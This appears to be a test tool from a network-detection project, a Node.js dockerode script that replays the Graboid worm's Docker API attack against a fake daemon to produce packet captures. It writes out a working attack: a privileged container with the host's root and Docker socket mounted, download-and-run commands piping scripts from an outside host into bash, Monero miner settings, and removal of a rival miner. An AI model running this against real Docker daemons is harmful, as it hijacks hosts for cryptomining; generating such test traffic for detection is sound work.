// dockerode_worm.js - a Node.js Docker API client (dockerode, as worm scripts in
// Node use it) doing what Graboid's worm.sh does against one daemon: pull an
// image, create a privileged container with the host's / mounted and a
// download-and-run command, start it, exec into it, then stop and remove a
// rival miner container. Only for tests/tools/make_docker_pcaps.sh, against
// tests/tools/fake_dockerd.py on loopback; the daemon runs nothing.
// Usage: NODE_PATH=... node dockerode_worm.js HOST PORT
const Docker = require('dockerode');

async function main() {
    const docker = new Docker({host: process.argv[2], port: Number(process.argv[3]), protocol: 'http'});
    await docker.ping();
    await new Promise((resolve) => {
        docker.pull('pocosow/centos:7.6.1810', (err, stream) => {
            if (err) return resolve();
            stream.on('data', () => {});
            stream.on('end', resolve);
            stream.on('error', resolve);
        });
    });
    const c = await docker.createContainer({
        name: 'nodeworm',
        Image: 'pocosow/centos:7.6.1810',
        Cmd: ['/bin/sh', '-c', 'wget -q -O - http://198.51.100.9/worm.sh | bash'],
        Env: ['WALLET=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9Vet', 'POOL=pool.supportxmr.com:3333'],
        HostConfig: {Privileged: true, Binds: ['/:/host', '/var/run/docker.sock:/var/run/docker.sock'],
                     NetworkMode: 'host', PidMode: 'host'},
    });
    await c.start();
    const e = await c.exec({Cmd: ['sh', '-c', 'curl -fsSL http://198.51.100.9/xmr.sh | sh'],
                            AttachStdout: true, User: 'root', Privileged: true});
    try { await e.start({Detach: true}); } catch (err) { /* the fake daemon's stream */ }
    const rival = docker.getContainer('xmrig');
    try { await rival.stop(); } catch (err) {}
    try { await rival.remove({force: true}); } catch (err) {}
}

main().catch((err) => { console.error(String(err)); process.exit(1); });
